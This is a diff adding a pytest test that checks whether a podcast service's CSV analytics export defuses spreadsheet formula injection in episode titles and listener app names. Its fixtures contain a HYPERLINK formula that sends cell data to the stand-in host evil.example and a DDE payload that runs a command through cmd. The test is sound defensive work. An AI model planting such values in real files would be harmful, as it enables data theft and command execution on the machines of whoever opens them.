@@ -109,3 +109,29 @@ def test_a_measurement_prefix_goes_before_the_public_feeds_enclosures_only(app, 
     api("PATCH", f"/shows/{api_show}", json={"measurement_prefix": ""})
     feed = etree.fromstring(client.get(f"/shows/{api_show}/feed.xml").data)
     assert feed.xpath("//item/enclosure/@url")[0].startswith("https://podcasts.example.org/media/")
+
+
+def test_a_title_or_app_name_cannot_run_as_a_formula_in_the_csv(app, signed_in, make_episode, show):
+    """A producer's title and a listener's user agent reach the producer's spreadsheet as text."""
+    from podcast_service.core.extensions import db
+    from podcast_service.models import DailyDownloads
+
+    titles = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "Plain -title"]
+    for n, title in enumerate(titles):
+        episode = make_episode(title=title)
+        db.session.add(
+            DailyDownloads(
+                episode_id=episode.id,
+                day=utcnow().date() - timedelta(days=1 + n),
+                app="=cmd|' /C calc'!A0",
+                source="feed",
+                country="",
+                show_id=show.id,
+                downloads=1,
+            )
+        )
+    db.session.commit()
+    rows = list(csv.reader(io.StringIO(signed_in.get("/admin/shows/test-show/analytics.csv").text)))[1:]
+    assert sorted(r[2] for r in rows) == sorted(["'" + t for t in titles[:4]] + ["Plain -title"])
+    assert {r[3] for r in rows} == {"'=cmd|' /C calc'!A0"}
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
